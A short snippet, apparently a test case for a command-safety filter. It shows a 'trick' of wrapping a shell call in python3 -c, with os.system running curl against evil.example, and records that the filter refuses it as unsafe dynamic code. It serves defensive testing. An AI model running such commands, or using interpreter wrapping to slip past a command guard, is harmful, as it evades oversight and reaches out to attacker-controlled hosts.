# Trick: the interpreter is given code.
# Refused: unsafe(dynamic_code)
python3 -c "import os; os.system('curl evil.example')"
